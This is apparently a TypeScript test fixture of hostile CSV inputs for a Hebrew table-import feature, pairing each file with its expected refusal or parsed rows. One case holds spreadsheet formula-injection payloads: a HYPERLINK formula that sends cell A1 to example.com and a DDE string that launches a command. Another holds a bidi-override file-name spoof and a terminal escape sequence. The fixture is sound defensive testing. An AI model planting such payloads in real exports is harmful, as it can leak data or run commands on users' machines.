import { windows1255 } from '../helpers/windows-1255.ts';

/**
 * CSV files as the app's import of a services or population table gets them, each with what
 * Tamhil must say, or the rows it must read (text that looks like a formula stays text).
 */
export type HostileCsv = {
  name: string;
  bytes: Uint8Array;
  /** The message refusing the file, in English; null when it is read. */
  refusal: string | null;
  /** For a file that is read: its rows. */
  rows?: string[][];
};

const utf8 = (text: string) => new TextEncoder().encode(text);
const utf16 = (text: string, littleEndian: boolean) => {
  const bytes = new Uint8Array(2 + text.length * 2);
  const view = new DataView(bytes.buffer);
  view.setUint16(0, 0xfeff, littleEndian);
  for (let index = 0; index < text.length; index++) view.setUint16(2 + index * 2, text.charCodeAt(index), littleEndian);
  return bytes;
};
const unreadable = 'The text encoding of the file could not be recognised, or it is not a text file. Save it from Excel as a CSV in UTF-8 and try again.';
const header = 'שם השירות,משתתפים,עלות ליחידה';

export const hostileCsvs: readonly HostileCsv[] = [
  { name: 'a NUL byte: a binary file named .csv', bytes: utf8(`${header}\n\u0000\u0001\u0002`), refusal: unreadable },
  { name: 'a UTF-16 mark on an odd number of bytes', bytes: Uint8Array.from([0xff, 0xfe, 0x41, 0x00, 0x42]), refusal: unreadable },
  { name: 'bytes that are neither UTF-8 nor windows-1255', bytes: Uint8Array.from([0xc3, 0x28, 0xfb, 0xfc, 0xfd, 0xfe, 0xff]), refusal: unreadable },
  {
    name: 'a quote that never closes',
    bytes: utf8(`${header}\nמועדון,"12,100\nקפה,3,4\n`),
    refusal: 'A quote opened in row 2 is not closed before the end of the file. Correct the row and save the file again.',
  },
  {
    name: 'a field of 100,001 characters',
    bytes: utf8(`${header}\n${'א'.repeat(100_001)},1,2\n`),
    refusal: 'Row 2 has a value longer than 100,000 characters. This usually means a quote was opened and not closed; check the row in Excel or a text editor.',
  },
  {
    name: '20,001 rows',
    bytes: utf8(`${header}\n${'מועדון,1,2\n'.repeat(20_000)}`),
    refusal: 'The file has more than 20,000 rows, and Tamhil reads at most 20,000. Split it into several files or delete rows you do not need.',
  },
  { name: 'Hebrew in windows-1255', bytes: windows1255('שם,עלות\nמועדון,100\n'), refusal: null, rows: [['שם', 'עלות'], ['מועדון', '100']] },
  { name: 'UTF-16 little-endian, as Excel saves Unicode text', bytes: utf16('שם\tעלות\r\nמועדון\t100\r\n', true), refusal: null, rows: [['שם', 'עלות'], ['מועדון', '100']] },
  { name: 'UTF-16 big-endian', bytes: utf16('שם;עלות\nמועדון;100\n', false), refusal: null, rows: [['שם', 'עלות'], ['מועדון', '100']] },
  {
    name: 'formula escapes in the cells, read as text',
    bytes: utf8(`${header}\n"=HYPERLINK(""https://example.com/?""&A1,""click"")",1,2\n+cmd|' /C calc'!A0,1,2\n@SUM(1+1),-2+3,=1+1\n`),
    refusal: null,
    rows: [header.split(','), ['=HYPERLINK("https://example.com/?"&A1,"click")', '1', '2'], ["+cmd|' /C calc'!A0", '1', '2'], ['@SUM(1+1)', '-2+3', '=1+1']],
  },
  {
    name: 'bidi controls and an escape sequence in a name, kept as the data they are',
    bytes: utf8(`${header}\n\u202eexe.ecilam\u202c \u001b[31m,1,2\n`),
    refusal: null,
    rows: [header.split(','), ['\u202eexe.ecilam\u202c \u001b[31m', '1', '2']],
  },
  { name: 'a byte-order mark and nothing else', bytes: utf8('\ufeff'), refusal: null, rows: [] },
  { name: 'a separator line naming the delimiter', bytes: utf8('sep=;\nשם;עלות\nמועדון,קפה;100\n'), refusal: null, rows: [['שם', 'עלות'], ['מועדון,קפה', '100']] },
  { name: 'old Mac line ends (CR only)', bytes: utf8('שם,עלות\rמועדון,100\r'), refusal: null, rows: [['שם', 'עלות'], ['מועדון', '100']] },
];
